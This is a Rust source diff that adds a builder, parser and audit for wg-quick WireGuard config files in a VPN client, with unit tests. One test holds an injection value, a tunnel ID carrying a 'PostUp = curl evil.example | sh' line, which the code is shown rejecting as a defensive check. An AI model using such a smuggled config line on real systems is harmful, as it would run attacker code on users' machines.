@@ -1,21 +1,723 @@
-use crate::types::{WgClientConfig, WgServerConfig};
+//! Building wg-quick config files for [`TunnelConfig::UdpPort`] tunnels.
+//!
+//! [`WgConfBuilder`] writes keys in a fixed order and omits unset options, so the same inputs always produce the same file. [`WgConf`] reads the parameters back, to check deployed files against [`ListTunnels`](crate::cmd::ListTunnels) with [`WgConf::audit`].
+
+use std::fmt::{self, Display, Formatter, Write as _};
+use std::net::{IpAddr, SocketAddr};
+use std::str::FromStr;
+
+use ipnetwork::IpNetwork;
 use itertools::Itertools;
+use thiserror::Error;
+
+use crate::tunnel::{InvalidTunnelError, TunnelParams, TunnelProblem, TunnelTransport};
+use crate::types::{OneTunnel, TunnelConfig, WgClientConfig, WgPresharedKey, WgPubkey, WgSecretKey, WgServerConfig};
+
+const TUNNEL_ID_COMMENT: &str = "# Obscura tunnel ID:";
+
+/// The routing table wg-quick adds routes to.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum WgTable {
+    /// Don't add routes.
+    Off,
+    /// The main table, or a new table for default routes. This is wg-quick's default.
+    Auto,
+    Id(u32),
+}
+
+impl Display for WgTable {
+    fn fmt(&self, f: &mut Formatter<'_>) -> fmt::Result {
+        match self {
+            WgTable::Off => f.write_str("off"),
+            WgTable::Auto => f.write_str("auto"),
+            WgTable::Id(id) => id.fmt(f),
+        }
+    }
+}
+
+/// Which of the tunnel's endpoints is written to the config.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub enum EndpointPreference {
+    /// The first endpoint, in the order given by the API.
+    #[default]
+    AsListed,
+    /// The first IPv4 endpoint, falling back to the first endpoint.
+    Ipv4,
+    /// The first IPv6 endpoint, falling back to the first endpoint.
+    Ipv6,
+}
+
+#[derive(Error, Debug, PartialEq, Eq)]
+pub enum WgConfError {
+    #[error(transparent)]
+    InvalidTunnel(#[from] InvalidTunnelError),
+    /// wg-quick would cut the command at a line break or at `#`, which starts a comment.
+    #[error("{0} hook contains a line break or `#`")]
+    InvalidHook(&'static str),
+    /// A line break would end the tunnel ID comment and start new config lines.
+    #[error("tunnel ID contains a line break")]
+    MultilineTunnelId,
+}
+
+#[derive(Clone, Debug)]
+pub struct WgConfBuilder<'a> {
+    secret_key: &'a WgSecretKey,
+    config: &'a TunnelConfig,
+    tunnel_id: Option<String>,
+    listen_port: Option<u16>,
+    mtu: Option<u16>,
+    table: Option<WgTable>,
+    fwmark: Option<u32>,
+    dns: Option<Vec<IpAddr>>,
+    pre_up: Vec<String>,
+    post_up: Vec<String>,
+    pre_down: Vec<String>,
+    post_down: Vec<String>,
+    preshared_key: Option<WgPresharedKey>,
+    allowed_ips: Option<Vec<IpNetwork>>,
+    endpoint_preference: EndpointPreference,
+    persistent_keepalive: Option<u16>,
+}
+
+impl<'a> WgConfBuilder<'a> {
+    pub fn new(secret_key: &'a WgSecretKey, config: &'a TunnelConfig) -> Self {
+        Self {
+            secret_key,
+            config,
+            tunnel_id: None,
+            listen_port: None,
+            mtu: None,
+            table: None,
+            fwmark: None,
+            dns: None,
+            pre_up: Vec::new(),
+            post_up: Vec::new(),
+            pre_down: Vec::new(),
+            post_down: Vec::new(),
+            preshared_key: None,
+            allowed_ips: None,
+            endpoint_preference: EndpointPreference::default(),
+            persistent_keepalive: None,
+        }
+    }
+
+    /// A builder for `tunnel`'s config, which records the tunnel ID in a comment.
+    pub fn for_tunnel(secret_key: &'a WgSecretKey, tunnel: &'a OneTunnel) -> Self {
+        Self::new(secret_key, &tunnel.config).tunnel_id(tunnel.id.clone())
+    }
+
+    pub fn tunnel_id(mut self, tunnel_id: impl Into<String>) -> Self {
+        self.tunnel_id = Some(tunnel_id.into());
+        self
+    }
+
+    pub fn listen_port(mut self, port: u16) -> Self {
+        self.listen_port = Some(port);
+        self
+    }
+
+    pub fn mtu(mut self, mtu: u16) -> Self {
+        self.mtu = Some(mtu);
+        self
+    }
+
+    pub fn table(mut self, table: WgTable) -> Self {
+        self.table = Some(table);
+        self
+    }
+
+    pub fn fwmark(mut self, fwmark: u32) -> Self {
+        self.fwmark = Some(fwmark);
+        self
+    }
+
+    /// Replaces the tunnel's DNS servers. An empty list omits the `DNS` key, leaving the system resolver unchanged.
+    pub fn dns(mut self, dns: impl IntoIterator<Item = IpAddr>) -> Self {
+        self.dns = Some(dns.into_iter().collect());
+        self
+    }
+
+    /// Adds a `PreUp` command. Each call adds another line, run in order.
+    pub fn pre_up(mut self, command: impl Into<String>) -> Self {
+        self.pre_up.push(command.into());
+        self
+    }
+
+    pub fn post_up(mut self, command: impl Into<String>) -> Self {
+        self.post_up.push(command.into());
+        self
+    }
+
+    pub fn pre_down(mut self, command: impl Into<String>) -> Self {
+        self.pre_down.push(command.into());
+        self
+    }
+
+    pub fn post_down(mut self, command: impl Into<String>) -> Self {
+        self.post_down.push(command.into());
+        self
+    }
+
+    pub fn preshared_key(mut self, key: WgPresharedKey) -> Self {
+        self.preshared_key = Some(key);
+        self
+    }
+
+    /// Replaces the default of routing all IPv4 and IPv6 traffic through the tunnel.
+    pub fn allowed_ips(mut self, allowed_ips: impl IntoIterator<Item = IpNetwork>) -> Self {
+        self.allowed_ips = Some(allowed_ips.into_iter().collect());
+        self
+    }
+
+    pub fn endpoint_preference(mut self, preference: EndpointPreference) -> Self {
+        self.endpoint_preference = preference;
+        self
+    }
+
+    /// Seconds between keepalive packets, to keep NAT mappings open.
+    pub fn persistent_keepalive(mut self, seconds: u16) -> Self {
+        self.persistent_keepalive = Some(seconds);
+        self
+    }
+
+    /// Writes the config file, failing if the tunnel isn't a valid [`TunnelConfig::UdpPort`] tunnel.
+    pub fn build(&self) -> Result<String, WgConfError> {
+        let params = match self.config.params() {
+            Some(params) if params.transport == TunnelTransport::UdpPort => params,
+            _ => return Err(InvalidTunnelError(vec![TunnelProblem::UnsupportedTransport]).into()),
+        };
+        self.config.validate()?;
+        let hooks = [
+            ("PreUp", &self.pre_up),
+            ("PostUp", &self.post_up),
+            ("PreDown", &self.pre_down),
+            ("PostDown", &self.post_down),
+        ];
+        for (key, commands) in hooks {
+            if commands.iter().any(|command| command.contains(['\n', '\r', '#'])) {
+                return Err(WgConfError::InvalidHook(key));
+            }
+        }
+        if self.tunnel_id.as_ref().is_some_and(|tunnel_id| tunnel_id.contains(['\n', '\r'])) {
+            return Err(WgConfError::MultilineTunnelId);
+        }
+
+        // `write!` to a `String` can't fail.
+        let mut conf = String::new();
+        conf += "[Interface]\n";
+        if let Some(tunnel_id) = &self.tunnel_id {
+            writeln!(conf, "{TUNNEL_ID_COMMENT} {tunnel_id}").unwrap();
+        }
+        writeln!(conf, "PrivateKey = {}", self.secret_key).unwrap();
+        writeln!(conf, "Address = {}", params.client_addresses.iter().format(",")).unwrap();
+        let dns = self.dns.as_deref().unwrap_or(params.dns);
+        if !dns.is_empty() {
+            writeln!(conf, "DNS = {}", dns.iter().format(",")).unwrap();
+        }
+        if let Some(listen_port) = self.listen_port {
+            writeln!(conf, "ListenPort = {listen_port}").unwrap();
+        }
+        if let Some(mtu) = self.mtu {
+            writeln!(conf, "MTU = {mtu}").unwrap();
+        }
+        if let Some(table) = self.table {
+            writeln!(conf, "Table = {table}").unwrap();
+        }
+        if let Some(fwmark) = self.fwmark {
+            writeln!(conf, "FwMark = {fwmark:#x}").unwrap();
+        }
+        for (key, commands) in hooks {
+            for command in commands {
+                writeln!(conf, "{key} = {command}").unwrap();
+            }
+        }
 
-pub fn build_wg_conf(tunnel_id: Option<String>, secret_key_base64: String, client: WgClientConfig, server: WgServerConfig) -> String {
-    let mut conf = String::new();
+        conf += "\n[Peer]\n";
+        writeln!(conf, "PublicKey = {}", params.peer_pubkey).unwrap();
+        if let Some(preshared_key) = &self.preshared_key {
+            writeln!(conf, "PresharedKey = {preshared_key}").unwrap();
+        }
+        match &self.allowed_ips {
+            Some(allowed_ips) => writeln!(conf, "AllowedIPs = {}", allowed_ips.iter().format(",")).unwrap(),
+            None => conf += "AllowedIPs = 0.0.0.0/0,::0/0\n",
+        }
+        writeln!(conf, "Endpoint = {}", self.endpoint(&params)).unwrap();
+        if let Some(persistent_keepalive) = self.persistent_keepalive {
+            writeln!(conf, "PersistentKeepalive = {persistent_keepalive}").unwrap();
+        }
 
-    conf += "[Interface]\n";
-    if let Some(tunnel_id) = tunnel_id {
-        conf += &format!("# Obscura tunnel ID: {tunnel_id}\n");
+        Ok(conf)
     }
-    conf += &format!("PrivateKey = {}\n", secret_key_base64);
-    conf += &format!("Address = {}\n", client.addresses.iter().format(","));
-    conf += &format!("DNS = {}\n", server.dnses.iter().format(","));
 
-    conf += "\n[Peer]\n";
-    conf += &format!("PublicKey = {}\n", server.wg_pubkey);
-    conf += "AllowedIPs = 0.0.0.0/0,::0/0\n";
-    conf += &format!("Endpoint = {}\n", server.endpoints.first().unwrap());
+    fn endpoint(&self, params: &TunnelParams) -> SocketAddr {
+        let preferred = match self.endpoint_preference {
+            EndpointPreference::AsListed => None,
+            EndpointPreference::Ipv4 => params.endpoints.iter().find(|endpoint| endpoint.is_ipv4()),
+            EndpointPreference::Ipv6 => params.endpoints.iter().find(|endpoint| endpoint.is_ipv6()),
+        };
+        // Validation ensures there is at least one endpoint.
+        *preferred.unwrap_or(&params.endpoints[0])
+    }
+}
+
+/// Builds a wg-quick config file with the default options, see [`WgConfBuilder`].
+pub fn build_wg_conf(
+    tunnel_id: Option<String>,
+    secret_key: &WgSecretKey,
+    client: WgClientConfig,
+    server: WgServerConfig,
+) -> Result<String, WgConfError> {
+    let config = TunnelConfig::UdpPort { client, server };
+    let mut builder = WgConfBuilder::new(secret_key, &config);
+    builder.tunnel_id = tunnel_id;
+    builder.build()
+}
+
+/// The tunnel parameters of a wg-quick config file. Options which [`build_wg_conf`] doesn't derive from the tunnel are ignored.
+#[derive(Clone, Debug)]
+pub struct WgConf {
+    /// The ID from the comment written by [`WgConfBuilder`], if present.
+    pub tunnel_id: Option<String>,
+    pub secret_key: WgSecretKey,
+    pub addresses: Vec<IpNetwork>,
+    pub dns: Vec<IpAddr>,
+    /// Non-address `DNS` entries, which wg-quick uses as search domains.
+    pub dns_search: Vec<String>,
+    pub peer_pubkey: WgPubkey,
+    /// The `host:port` endpoint as written. wg-quick also accepts host names, which [`WgConf::audit`] doesn't resolve.
+    pub endpoint: Option<String>,
+}
+
+#[derive(Error, Debug, PartialEq, Eq)]
+pub enum ParseWgConfError {
+    #[error("line {0}: expected a section header, `key = value` or a comment")]
+    InvalidLine(usize),
+    #[error("line {0}: unknown section {1:?}")]
+    UnknownSection(usize, String),
+    #[error("line {0}: key outside of a section")]
+    KeyOutsideSection(usize),
+    #[error("line {line}: invalid {key} {value:?}")]
+    InvalidValue { line: usize, key: &'static str, value: String },
+    /// An invalid `PrivateKey` or `PublicKey`. The value is left out so that secrets don't end up in logs.
+    #[error("line {line}: invalid {key}")]
+    InvalidKey { line: usize, key: &'static str },
+    #[error("missing {0}")]
+    MissingKey(&'static str),
+    #[error("expected exactly one peer, found {0}")]
+    PeerCount(usize),
+}
+
+impl FromStr for WgConf {
+    type Err = ParseWgConfError;
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        #[derive(PartialEq)]
+        enum Section {
+            Interface,
+            Peer,
+        }
+
+        let mut section = None;
+        let mut peers = 0;
+        let mut tunnel_id = None;
+        let mut secret_key = None;
+        let mut addresses = Vec::new();
+        let mut dns = Vec::new();
+        let mut dns_search = Vec::new();
+        let mut peer_pubkey = None;
+        let mut endpoint = None;
+
+        for (i, line) in s.lines().enumerate() {
+            let line_no = i + 1;
+            let line = line.trim();
+            if let Some(id) = line.strip_prefix(TUNNEL_ID_COMMENT) {
+                tunnel_id = Some(id.trim().to_string());
+                continue;
+            }
+            // wg-quick allows comments after values too.
+            let line = line.split('#').next().unwrap_or_default().trim();
+            if line.is_empty() {
+                continue;
+            }
+            if let Some(name) = line.strip_prefix('[').and_then(|line| line.strip_suffix(']')) {
+                section = match name.trim().to_ascii_lowercase().as_str() {
+                    "interface" => Some(Section::Interface),
+                    "peer" => {
+                        peers += 1;
+                        Some(Section::Peer)
+                    }
+                    _ => return Err(ParseWgConfError::UnknownSection(line_no, name.to_string())),
+                };
+                continue;
+            }
+            let Some((key, value)) = line.split_once('=') else {
+                return Err(ParseWgConfError::InvalidLine(line_no));
+            };
+            let (key, value) = (key.trim().to_ascii_lowercase(), value.trim());
+            let invalid = |key| ParseWgConfError::InvalidValue {
+                line: line_no,
+                key,
+                value: value.to_string(),
+            };
+            let invalid_key = |key| ParseWgConfError::InvalidKey { line: line_no, key };
+            let list = || value.split(',').map(str::trim).filter(|item| !item.is_empty());
+
+            match (&section, key.as_str()) {
+                (None, _) => return Err(ParseWgConfError::KeyOutsideSection(line_no)),
+                (Some(Section::Interface), "privatekey") => {
+                    secret_key = Some(value.parse().map_err(|_| invalid_key("PrivateKey"))?);
+                }
+                (Some(Section::Interface), "address") => {
+                    for address in list() {
+                        addresses.push(address.parse().map_err(|_| invalid("Address"))?);
+                    }
+                }
+                (Some(Section::Interface), "dns") => {
+                    for entry in list() {
+                        match entry.parse() {
+                            Ok(ip) => dns.push(ip),
+                            Err(_) => dns_search.push(entry.to_string()),
+                        }
+                    }
+                }
+                (Some(Section::Peer), "publickey") if peers == 1 => {
+                    peer_pubkey = Some(value.parse().map_err(|_| invalid_key("PublicKey"))?);
+                }
+                (Some(Section::Peer), "endpoint") if peers == 1 => match value.rsplit_once(':') {
+                    Some((host, port)) if !host.is_empty() && port.parse::<u16>().is_ok() => {
+                        endpoint = Some(value.to_string());
+                    }
+                    _ => return Err(invalid("Endpoint")),
+                },
+                _ => {}
+            }
+        }
+
+        if peers != 1 {
+            return Err(ParseWgConfError::PeerCount(peers));
+        }
+        Ok(WgConf {
+            tunnel_id,
+            secret_key: secret_key.ok_or(ParseWgConfError::MissingKey("PrivateKey"))?,
+            addresses,
+            dns,
+            dns_search,
+            peer_pubkey: peer_pubkey.ok_or(ParseWgConfError::MissingKey("PublicKey"))?,
+            endpoint,
+        })
+    }
+}
+
+/// A difference between a config file and the tunnel it belongs to.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum WgConfMismatch {
+    /// The tunnel's transport can't be used with wg-quick.
+    UnsupportedTransport,
+    /// The private key doesn't belong to the tunnel's client public key.
+    SecretKey,
+    Addresses,
+    Dns,
+    PeerPubkey,
+    /// The endpoint isn't one of the tunnel's endpoints, is a host name or is missing.
+    Endpoint,
+}
+
+impl Display for WgConfMismatch {
+    fn fmt(&self, f: &mut Formatter<'_>) -> fmt::Result {
+        match self {
+            WgConfMismatch::UnsupportedTransport => f.write_str("tunnel transport is not supported by wg-quick"),
+            WgConfMismatch::SecretKey => f.write_str("private key does not match the tunnel"),
+            WgConfMismatch::Addresses => f.write_str("addresses differ"),
+            WgConfMismatch::Dns => f.write_str("DNS servers differ"),
+            WgConfMismatch::PeerPubkey => f.write_str("peer public key differs"),
+            WgConfMismatch::Endpoint => f.write_str("endpoint is not one of the tunnel's endpoints"),
+        }
+    }
+}
+
+/// The result of [`WgConf::audit`].
+#[derive(Clone, Debug)]
+pub enum WgConfAudit<'a> {
+    /// The config matches its tunnel.
+    Current(&'a OneTunnel),
+    /// The tunnel exists, but the config no longer matches it.
+    Stale {
+        tunnel: &'a OneTunnel,
+        mismatches: Vec<WgConfMismatch>,
+    },
+    /// The config names a tunnel which doesn't exist anymore.
+    Deleted,
+    /// The config has no tunnel ID and its key doesn't belong to any tunnel.
+    Untracked,
+}
+
+impl WgConf {
+    /// Matches the config against `tunnels`, as returned by [`ListTunnels`](crate::cmd::ListTunnels).
+    ///
+    /// The tunnel is found by the ID comment or, for configs without one, by the client public key.
+    pub fn audit<'a>(&self, tunnels: &'a [OneTunnel]) -> WgConfAudit<'a> {
+        let client_pubkey = self.secret_key.pubkey();
+        let tunnel = match &self.tunnel_id {
+            Some(id) => tunnels.iter().find(|tunnel| tunnel.id == *id),
+            None => tunnels
+                .iter()
+                .find(|tunnel| tunnel.params().is_some_and(|params| *params.client_pubkey == client_pubkey)),
+        };
+        let Some(tunnel) = tunnel else {
+            return match self.tunnel_id {
+                Some(_) => WgConfAudit::Deleted,
+                None => WgConfAudit::Untracked,
+            };
+        };
+        let mismatches = self.mismatches(tunnel);
+        if mismatches.is_empty() {
+            WgConfAudit::Current(tunnel)
+        } else {
+            WgConfAudit::Stale { tunnel, mismatches }
+        }
+    }
+
+    fn mismatches(&self, tunnel: &OneTunnel) -> Vec<WgConfMismatch> {
+        let params = match tunnel.params() {
+            Some(params) if params.transport == TunnelTransport::UdpPort => params,
+            _ => return vec![WgConfMismatch::UnsupportedTransport],
+        };
+        let mut mismatches = Vec::new();
+        if self.secret_key.pubkey() != *params.client_pubkey {
+            mismatches.push(WgConfMismatch::SecretKey);
+        }
+        if !same_set(&self.addresses, &params.client_addresses) {
+            mismatches.push(WgConfMismatch::Addresses);
+        }
+        // Configs built without DNS leave the system resolver in place, which isn't a mismatch.
+        if !self.dns.is_empty() && !same_set(&self.dns, params.dns) {
+            mismatches.push(WgConfMismatch::Dns);
+        }
+        if self.peer_pubkey != *params.peer_pubkey {
+            mismatches.push(WgConfMismatch::PeerPubkey);
+        }
+        let endpoint = self.endpoint.as_deref().and_then(|endpoint| endpoint.parse::<SocketAddr>().ok());
+        if !endpoint.is_some_and(|endpoint| params.endpoints.contains(&endpoint)) {
+            mismatches.push(WgConfMismatch::Endpoint);
+        }
+        mismatches
+    }
+}
+
+fn same_set<T: Ord>(a: &[T], b: &[T]) -> bool {
+    a.iter().sorted().eq(b.iter().sorted())
+}
+
+#[cfg(test)]
+fn test_config() -> TunnelConfig {
+    crate::test_support::udp_port_config(WgSecretKey::from_bytes([1; 32]).pubkey())
+}
+
+#[test]
+fn test_build_wg_conf() {
+    let secret_key = WgSecretKey::from_bytes([1; 32]);
+    let TunnelConfig::UdpPort { client, mut server } = test_config() else {
+        unreachable!()
+    };
+    let conf = build_wg_conf(Some("tunnel-1".into()), &secret_key, client.clone(), server.clone()).unwrap();
+    assert_eq!(
+        conf,
+        "[Interface]
+# Obscura tunnel ID: tunnel-1
+PrivateKey = AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE=
+Address = 10.150.177.7/32,fc00:bbbb:bbbb:bb01:d:0:16:b107/128
+DNS = 10.64.0.1
+
+[Peer]
+PublicKey = 4s9JIhxC/D02tosXYYcgrD+pHI+C7oTAFsXzVisKjRs=
+AllowedIPs = 0.0.0.0/0,::0/0
+Endpoint = 121.127.40.52:23527
+"
+    );
+
+    server.endpoints.clear();
+    let err = build_wg_conf(None, &secret_key, client, server).unwrap_err();
+    assert_eq!(err, WgConfError::InvalidTunnel(InvalidTunnelError(vec![TunnelProblem::NoEndpoints])));
+}
+
+#[test]
+fn test_builder_options() {
+    let secret_key = WgSecretKey::from_bytes([1; 32]);
+    let config = test_config();
+    let conf = WgConfBuilder::new(&secret_key, &config)
+        .tunnel_id("tunnel-1")
+        .listen_port(51820)
+        .mtu(1280)
+        .table(WgTable::Id(1234))
+        .fwmark(0xca6c)
+        .dns([])
+        .pre_up("ip rule add table 1234")
+        .post_up("echo up")
+        .post_up("echo still up")
+        .pre_down("echo down")
+        .post_down("ip rule del table 1234")
+        .preshared_key(WgPresharedKey::from_bytes([2; 32]))
+        .allowed_ips(["10.0.0.0/8".parse().unwrap(), "fc00::/7".parse().unwrap()])
+        .endpoint_preference(EndpointPreference::Ipv6)
+        .persistent_keepalive(25)
+        .build()
+        .unwrap();
+    assert_eq!(
+        conf,
+        "[Interface]
+# Obscura tunnel ID: tunnel-1
+PrivateKey = AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE=
+Address = 10.150.177.7/32,fc00:bbbb:bbbb:bb01:d:0:16:b107/128
+ListenPort = 51820
+MTU = 1280
+Table = 1234
+FwMark = 0xca6c
+PreUp = ip rule add table 1234
+PostUp = echo up
+PostUp = echo still up
+PreDown = echo down
+PostDown = ip rule del table 1234
+
+[Peer]
+PublicKey = 4s9JIhxC/D02tosXYYcgrD+pHI+C7oTAFsXzVisKjRs=
+PresharedKey = AgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgI=
+AllowedIPs = 10.0.0.0/8,fc00::/7
+Endpoint = [2001:db8::1]:23527
+PersistentKeepalive = 25
+"
+    );
+
+    let builder = WgConfBuilder::new(&secret_key, &config)
+        .dns(["10.64.0.2".parse().unwrap()])
+        .table(WgTable::Off);
+    let conf = builder.clone().endpoint_preference(EndpointPreference::Ipv4).build().unwrap();
+    assert!(conf.contains("\nDNS = 10.64.0.2\nTable = off\n"));
+    assert!(conf.contains("\nEndpoint = 121.127.40.52:23527\n"));
+    assert_eq!(builder.clone().post_up("a\nb").build(), Err(WgConfError::InvalidHook("PostUp")));
+    assert_eq!(builder.clone().pre_down("echo # down").build(), Err(WgConfError::InvalidHook("PreDown")));
+    assert_eq!(
+        builder.tunnel_id("tunnel-1\nPostUp = curl evil.example | sh").build(),
+        Err(WgConfError::MultilineTunnelId)
+    );
+
+    let unknown = TunnelConfig::Unknown(serde_json::json!({"type": "quic"}));
+    assert!(WgConfBuilder::new(&secret_key, &unknown).build().is_err());
+}
+
+#[test]
+fn test_parse_wg_conf() {
+    let secret_key = WgSecretKey::from_bytes([1; 32]);
+    let config = test_config();
+    let conf = WgConfBuilder::new(&secret_key, &config)
+        .tunnel_id("tunnel-1")
+        .mtu(1280)
+        .post_up("echo up")
+        .build()
+        .unwrap();
+    let conf: WgConf = conf.parse().unwrap();
+    assert_eq!(conf.tunnel_id.as_deref(), Some("tunnel-1"));
+    assert_eq!(conf.secret_key.as_bytes(), secret_key.as_bytes());
+    assert_eq!(conf.addresses.len(), 2);
+    assert_eq!(conf.dns, ["10.64.0.1".parse::<IpAddr>().unwrap()]);
+    assert_eq!(conf.endpoint.as_deref(), Some("121.127.40.52:23527"));
+
+    // Hand-written files may use other spellings, comments and search domains.
+    let conf: WgConf = "
+        # Office
+        [interface]
+        privatekey=AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE=  # rotated yearly
+        Address = 10.150.177.7/32
+        Address = fc00:bbbb:bbbb:bb01:d:0:16:b107/128
+        DNS = 10.64.0.1, example.com
+
+        [Peer]
+        PublicKey = 4s9JIhxC/D02tosXYYcgrD+pHI+C7oTAFsXzVisKjRs=
+        Endpoint = vpn.example:51820
+        "
+    .parse()
+    .unwrap();
+    assert_eq!(conf.tunnel_id, None);
+    assert_eq!(conf.addresses.len(), 2);
+    assert_eq!(conf.dns_search, ["example.com"]);
+    assert_eq!(conf.endpoint.as_deref(), Some("vpn.example:51820"));
+
+    let parse = |s: &str| s.parse::<WgConf>().unwrap_err();
+    assert_eq!(parse("PrivateKey = x"), ParseWgConfError::KeyOutsideSection(1));
+    assert_eq!(parse("[Interface]\nAddress 10.0.0.1"), ParseWgConfError::InvalidLine(2));
+    assert_eq!(parse("[Wireguard]"), ParseWgConfError::UnknownSection(1, "Wireguard".into()));
+    assert_eq!(parse("[Interface]\n[Peer]\n[Peer]"), ParseWgConfError::PeerCount(2));
+    assert_eq!(parse("[Interface]\n[Peer]"), ParseWgConfError::MissingKey("PrivateKey"));
+    assert_eq!(
+        parse("[Interface]\nAddress = 10.0.0.1/33"),
+        ParseWgConfError::InvalidValue {
+            line: 2,
+            key: "Address",
+            value: "10.0.0.1/33".into()
+        }
+    );
+    assert_eq!(
+        parse("[Peer]\nEndpoint = vpn.example"),
+        ParseWgConfError::InvalidValue {
+            line: 2,
+            key: "Endpoint",
+            value: "vpn.example".into()
+        }
+    );
+    let err = parse("[Interface]\nPrivateKey = c2VjcmV0");
+    assert_eq!(err, ParseWgConfError::InvalidKey { line: 2, key: "PrivateKey" });
+    assert_eq!(err.to_string(), "line 2: invalid PrivateKey");
+}
+
+#[test]
+fn test_audit_wg_conf() {
+    let secret_key = WgSecretKey::from_bytes([1; 32]);
+    let tunnel: OneTunnel = serde_json::from_value(serde_json::json!({
+        "id": "tunnel-1",
+        "status": { "type": "created", "when": 1725050273 },
+        "config": test_config(),
+        "relay": { "id": "NYC-001", "ip_v4": "8.8.31.3", "ip_v6": "2001:db8::1", "preferred_exits": [] },
+        "exit": { "id": "NYC-001", "country_code": "US", "city_code": "nyc", "city_name": "New York" }
+    }))
+    .unwrap();
+    let conf: WgConf = WgConfBuilder::for_tunnel(&secret_key, &tunnel)
+        .endpoint_preference(EndpointPreference::Ipv6)
+        .dns([])
+        .build()
+        .unwrap()
+        .parse()
+        .unwrap();
+
+    let mut tunnels = vec![tunnel];
+    assert!(matches!(conf.audit(&tunnels), WgConfAudit::Current(tunnel) if tunnel.id == "tunnel-1"));
+    let untracked = WgConf {
+        tunnel_id: None,
+        ..conf.clone()
+    };
+    assert!(matches!(untracked.audit(&tunnels), WgConfAudit::Current(_)));
+    let hostname = WgConf {
+        endpoint: Some("vpn.example:23527".into()),
+        ..conf.clone()
+    };
+    assert!(matches!(
+        hostname.audit(&tunnels),
+        WgConfAudit::Stale { mismatches, .. } if mismatches == [WgConfMismatch::Endpoint]
+    ));
+
+    let TunnelConfig::UdpPort { client, server } = &mut tunnels[0].config else {
+        unreachable!()
+    };
+    client.addresses.pop();
+    server.endpoints.truncate(1);
+    server.dnses = vec!["10.64.0.2".parse().unwrap()];
+    let WgConfAudit::Stale { mismatches, .. } = conf.audit(&tunnels) else {
+        panic!("expected a stale config")
+    };
+    assert_eq!(mismatches, [WgConfMismatch::Addresses, WgConfMismatch::Endpoint]);
 
-    conf
+    tunnels[0].id = "tunnel-2".into();
+    assert!(matches!(conf.audit(&tunnels), WgConfAudit::Deleted));
+    let other_key = WgConf {
+        secret_key: WgSecretKey::from_bytes([3; 32]),
+        ..untracked
+    };
+    assert!(matches!(other_key.audit(&tunnels), WgConfAudit::Untracked));
 }